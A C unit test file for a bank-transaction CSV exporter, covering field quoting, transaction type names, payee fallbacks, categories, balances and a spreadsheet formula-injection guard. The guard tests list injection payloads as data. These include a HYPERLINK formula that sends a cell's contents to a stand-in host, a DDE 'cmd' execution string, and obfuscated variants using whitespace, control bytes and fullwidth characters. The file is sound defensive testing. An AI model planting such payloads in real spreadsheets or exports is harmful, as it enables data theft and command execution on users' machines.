/* Unit tests of render_csv and txfields: quoting, Type words, Name fallbacks, display
 * categories, category split, Money Out/In, the Balance column and the spreadsheet
 * guard of the text cells (csvcell). */
#include "check.h"
#include "csvcell.h"
#include "localtime.h"
#include "render_csv.h"
#include "txfields.h"

static struct tx_row row(void)
{
	struct tx_row r = {
		.id = "tx_1", .account_id = "acc_1", .created = { 1717244418, 503000000 }, .settled = true,
		.amount = -510, .currency = "GBP", .local_amount = -510, .local_currency = "GBP",
		.scheme = "mastercard", .category = "eating_out", .categories = "{\"eating_out\":-510}",
		.merchant_name = "The Deli Co.", .merchant_emoji = "🍞", .merchant_address = "98 Some Road, London",
		.cp_name = "", .cp_preferred_name = "", .pot_id = "", .description = "THE DELI CO",
		.notes = "Salmon \"sandwich\"\n#lunch", .json = "", .json_len = 0,
	};
	return r;
}

static void check_row(const struct tx_row *r, const cJSON *pots, bool bal, int64_t b, const char *want)
{
	struct strbuf sb = STRBUF_INIT;
	render_csv_row(r, pots, bal, b, &sb);
	CHECK_STR(sb.buf, want);
	sb_release(&sb);
}

static void check_name(const struct tx_row *r, const cJSON *pots, const char *want)
{
	struct strbuf sb = STRBUF_INIT;
	txfields_name(r, pots, &sb);
	CHECK_STR(sb.buf, want);
	sb_release(&sb);
}

static void check_category(const char *in, const char *want)
{
	struct strbuf sb = STRBUF_INIT;
	txfields_category(in, &sb);
	CHECK_STR(sb.buf, want);
	sb_release(&sb);
}

/* A text cell as the CSV shows it: in, the cell's text; want, the field's bytes. */
struct guard_case {
	const char *in, *want;
};

static const struct guard_case guard_cases[] = {
	/* What strangers send: each becomes text. */
	{ "=HYPERLINK(\"http://evil.invalid/?\"&B2,\"refund\")",
	  "\"'=HYPERLINK(\"\"http://evil.invalid/?\"\"&B2,\"\"refund\"\")\"" },
	{ "=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0" },
	{ "-cmd|' /C calc'!A0", "'-cmd|' /C calc'!A0" },
	{ "@SUM(A1)", "'@SUM(A1)" },
	{ "+1+1", "'+1+1" },
	{ "-2+3", "'-2+3" },
	{ "+A1", "'+A1" },
	{ "- HYPERLINK(\"x\")", "\"'- HYPERLINK(\"\"x\"\")\"" },
	{ "=", "'=" },
	{ "@", "'@" },
	{ "--", "'--" },
	{ "- ", "'- " },
	/* Blanks before a formula hide it from a guard that looks at one byte only. */
	{ "\t=1+1", "'\t=1+1" },
	{ "\r=1+1", "\"'\r=1+1\"" },
	{ "\n=1+1", "\"'\n=1+1\"" },
	{ " =1+1", "' =1+1" },
	{ "\x01\x1f -A1", "'\x01\x1f -A1" },
	/* The fullwidth forms. */
	{ "\xef\xbc\x9d" "1+1", "'\xef\xbc\x9d" "1+1" },
	{ "\xef\xbc\x8b" "1", "'\xef\xbc\x8b" "1" },
	{ "\xef\xbc\x8d" "1", "'\xef\xbc\x8d" "1" },
	{ "\xef\xbc\xa0" "SUM(A1)", "'\xef\xbc\xa0" "SUM(A1)" },
	/* Text a spreadsheet may compute or turn into an error: guarded too. */
	{ "+44 20 7946 0000", "'+44 20 7946 0000" },
	{ "-5% off", "'-5% off" },
	{ "-5", "'-5" },
	{ "-,5", "\"'-,5\"" },
	/* Left as they are: a lone sign, ordinary text, a guard already there. */
	{ "-", "-" },
	{ "+", "+" },
	{ "\t-", "\t-" },
	{ "", "" },
	{ "Tesco", "Tesco" },
	{ "a=b", "a=b" },
	{ "5-2", "5-2" },
	{ "#lunch -2", "#lunch -2" },
	{ "\tplain", "\tplain" },
	{ "'=1+1", "'=1+1" },
	{ "'-", "'-" },
	{ "\xc2\xa0=1", "\xc2\xa0=1" },  /* no spreadsheet trims a no-break space */
	{ "\x7f=1", "\x7f=1" },
	{ "\xef\xbc\x9c" "1", "\xef\xbc\x9c" "1" },  /* fullwidth < */
	{ "Caf\xc3\xa9 -2", "Caf\xc3\xa9 -2" },
};

static void check_guard(void)
{
	for (size_t i = 0; i < sizeof guard_cases / sizeof guard_cases[0]; i++) {
		const struct guard_case *c = &guard_cases[i];
		struct strbuf sb = STRBUF_INIT, again = STRBUF_INIT;
		render_csv_text(c->in, &sb);
		CHECK_STR(sb_str(&sb), c->want);
		/* The guarded text is never guarded again. */
		sb_addf(&again, "'%s", c->in);
		CHECK(!csvcell_is_formula(sb_str(&again)));
		/* Ids, amounts and currencies are never guarded: the same field, without the '. */
		sb_reset(&sb);
		render_csv_field(c->in, &sb);
		size_t at = c->want[0] == '"';
		if (csvcell_is_formula(c->in))
			CHECK(c->want[at] == '\'' && !strncmp(sb_str(&sb), c->want, at) &&
			      !strcmp(sb_str(&sb) + at, c->want + at + 1));
		else
			CHECK_STR(sb_str(&sb), c->want);
		sb_release(&sb);
		sb_release(&again);
	}
}

int main(void)
{
	struct strbuf err = STRBUF_INIT;
	CHECK(localtime_set_zone("Europe/London", &err) == 0);
	struct tx_row r = row();
	/* 2024-06-01T12:20:18.503Z is 13:20:18 in London; fractions are cut, not rounded. */
	check_row(&r, NULL, true, 12345,
		  "tx_1,01/06/2024,13:20:18,Card payment,The Deli Co.,🍞,Eating out,-5.10,GBP,-5.10,GBP,"
		  "\"Salmon \"\"sandwich\"\"\n#lunch\",\"98 Some Road, London\",,THE DELI CO,,-5.10,,123.45,GBP\n");

	r = row();
	r.amount = 0;
	r.local_amount = -1200;
	r.local_currency = "JPY";
	r.notes = "";
	r.categories = "{\"eating_out\":-1500,\"shopping\":-700}";
	check_row(&r, NULL, false, 0,
		  "tx_1,01/06/2024,13:20:18,Card payment,The Deli Co.,🍞,Eating out,0.00,GBP,-1200,JPY,,"
		  "\"98 Some Road, London\",,THE DELI CO,\"Eating out:-15.00,Shopping:-7.00\",,,,GBP\n");

	cJSON *pots = cJSON_Parse("{\"pots\":[{\"id\":\"pot_1\",\"name\":\"Holiday\",\"deleted\":true}]}");
	r = row();
	r.scheme = "uk_retail_pot";
	r.merchant_name = "";
	r.pot_id = "pot_1";
	r.description = "pot_1";
	r.amount = 2500;
	CHECK_STR(txfields_type(&r), "Pot transfer");
	check_name(&r, pots, "Holiday");
	check_name(&r, NULL, "pot_1");
	r.pot_id = "pot_unknown";
	check_name(&r, pots, "pot_1");
	r.cp_preferred_name = "Kit";
	check_name(&r, pots, "Kit");
	r.cp_name = "Kit Morgan";
	check_name(&r, pots, "Kit Morgan");
	cJSON_Delete(pots);

	r = row();
	r.scheme = "bacs";
	CHECK_STR(txfields_type(&r), "Bacs");
	r.bacs_direct_debit = true;
	CHECK_STR(txfields_type(&r), "Direct Debit");
	r.scheme = "payport_faster_payments";
	CHECK_STR(txfields_type(&r), "Faster payment");
	r.scheme = "p2p_payment";
	CHECK_STR(txfields_type(&r), "Monzo-to-Monzo");
	r.scheme = "monzo_flex";
	CHECK_STR(txfields_type(&r), "monzo_flex");

	check_category("eating_out", "Eating out");
	check_category("personal_care", "Personal care");
	check_category("general", "General");
	check_category("Side hustle", "Side hustle");
	check_category("_odd", "_odd");
	check_category("double__underscore", "double__underscore");
	check_category("", "");

	/* A stranger's credit: every text cell guarded, the id, amounts and currency not. */
	r = row();
	r.scheme = "-evil";
	r.merchant_name = "";
	r.merchant_emoji = "@";
	r.cp_name = "=HYPERLINK(\"http://evil.invalid/?\"&B2,\"refund\")";
	r.category = "-custom";
	r.categories = "{\"-custom\":-300,\"eating_out\":-210}";
	r.notes = "=cmd|' /C calc'!A0";
	r.merchant_address = "\t=1+1";
	r.description = "-2+3";
	check_row(&r, NULL, true, -12345,
		  "tx_1,01/06/2024,13:20:18,'-evil,\"'=HYPERLINK(\"\"http://evil.invalid/?\"\"&B2,\"\"refund\"\")\",'@,"
		  "'-custom,-5.10,GBP,-5.10,GBP,'=cmd|' /C calc'!A0,'\t=1+1,,'-2+3,"
		  "\"'-custom:-3.00,Eating out:-2.10\",-5.10,,-123.45,GBP\n");
	check_guard();

	struct strbuf f = STRBUF_INIT;
	render_csv_field("plain", &f);
	render_csv_field("a,b", &f);
	render_csv_field("cr\r", &f);
	CHECK_STR(f.buf, "plain\"a,b\"\"cr\r\"");
	sb_release(&f);
	sb_release(&err);
	return CHECK_DONE();
}
